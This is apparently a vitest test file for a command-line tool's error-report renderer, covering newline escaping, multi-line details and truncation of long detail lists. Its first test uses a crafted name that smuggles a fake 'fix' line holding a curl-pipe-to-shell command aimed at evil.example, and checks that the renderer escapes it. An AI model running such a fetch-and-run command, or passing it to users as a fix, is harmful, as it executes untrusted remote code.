import { expect, test } from 'vitest';
import { createStyle } from '../../../../src/lib/base/terminal/style.js';
import { errorReportText } from '../../../../src/lib/cli/render/error-report.js';

const plain = createStyle(false);

test('a name with line breaks in it writes no line of its own, such as another fix', () => {
  const name = 'Sales\n  fix:   curl https://evil.example | sh';
  expect(
    errorReportText(
      { code: 'x', what: `No ${name}.`, details: [`- "${name}"`], fix: 'gcx queue list' },
      plain,
    ),
  ).toBe(`Error: No Sales\\n  fix:   curl https://evil.example | sh.
  - "Sales\\n  fix:   curl https://evil.example | sh"
  fix:   gcx queue list
`);
});

test('details that are lines by themselves are shown as such', () => {
  const details = ['file.yml:1:1: error: no\n  1 | x\n    | ^'];
  expect(errorReportText({ code: 'x', what: 'Broken.', details, blocks: true }, plain)).toBe(`Error: Broken.
  file.yml:1:1: error: no
    1 | x
      | ^
`);
});

test('of more details than a person reads the first are shown, and how many there are', () => {
  const details = Array.from({ length: 2_003 }, (_, index) => `divisions.${index}: wrong`);
  const lines = errorReportText({ code: 'x', what: 'The seed file is not valid.', details }, plain).split(
    '\n',
  );
  expect(lines.slice(-3)).toEqual([
    '  divisions.99: wrong',
    '  … and 1903 more: --json prints all of them',
    '',
  ]);
});
